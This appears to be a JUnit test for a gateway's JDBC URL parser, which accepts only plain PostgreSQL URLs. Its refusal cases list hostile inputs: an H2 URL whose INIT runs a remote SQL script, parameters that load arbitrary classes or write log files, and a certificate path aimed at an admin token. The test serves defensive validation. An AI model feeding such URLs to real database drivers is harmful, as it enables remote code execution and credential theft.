package dev.sluice.gateway.pipeline.policy;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Only PostgreSQL URLs with a host and listed parameters; every host of one is named for the outbound rules. */
class JdbcUrlTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://db:5432/shop                                  | db:5432",
                "jdbc:postgresql://db/shop?sslmode=verify-full&ApplicationName=x | db:5432",
                "jdbc:postgresql://a:1,b:2/shop?targetServerType=primary         | a:1 b:2",
                "jdbc:postgresql://[::1]:5433/shop                               | [::1]:5433",
                "jdbc:postgresql://db/shop?password=p%26q                        | db:5432",
            })
    void allowedUrlsNameTheirHosts(String url, String hosts) {
        JdbcUrl.Parsed parsed = JdbcUrl.parse(url);

        assertThat(parsed).isInstanceOf(JdbcUrl.Valid.class);
        assertThat(String.join(
                        " ",
                        ((JdbcUrl.Valid) parsed)
                                .url().hosts().stream().map(Object::toString).toList()))
                .isEqualTo(hosts);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(
            strings = {
                "jdbc:h2:file:/var/lib/sluice/metadata",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.com/x.sql'",
                "JDBC:POSTGRESQL://db/shop",
                "jdbc:postgresql:shop",
                "jdbc:postgresql:///shop",
                "jdbc:postgresql://db/shop?socketFactory=org.example.Factory&socketFactoryArg=x",
                "jdbc:postgresql://db/shop?sslfactory=org.example.Factory",
                "jdbc:postgresql://db/shop?sslpasswordcallback=org.example.Callback",
                "jdbc:postgresql://db/shop?authenticationPluginClassName=org.example.Plugin",
                "jdbc:postgresql://db/shop?loggerFile=/tmp/x.log&loggerLevel=DEBUG",
                "jdbc:postgresql://db/shop?sslrootcert=/var/lib/sluice/admin.token",
                "jdbc:postgresql://db/shop?sslcert=/x&sslkey=/y",
                "jdbc:postgresql://db/shop?service=prod",
                "jdbc:postgresql://db/shop?PGHOST=127.0.0.1",
                "jdbc:postgresql://db/shop?sslmode=disable&host=127.0.0.1",
                "jdbc:postgresql://db/shop?gssEncMode=require",
                "jdbc:postgresql://db/shop?sslmode=bogus",
                "jdbc:postgresql://us er@db/shop",
            })
    void anythingElseIsRefused(String url) {
        assertThat(JdbcUrl.parse(url)).isInstanceOf(JdbcUrl.Invalid.class);
    }
}
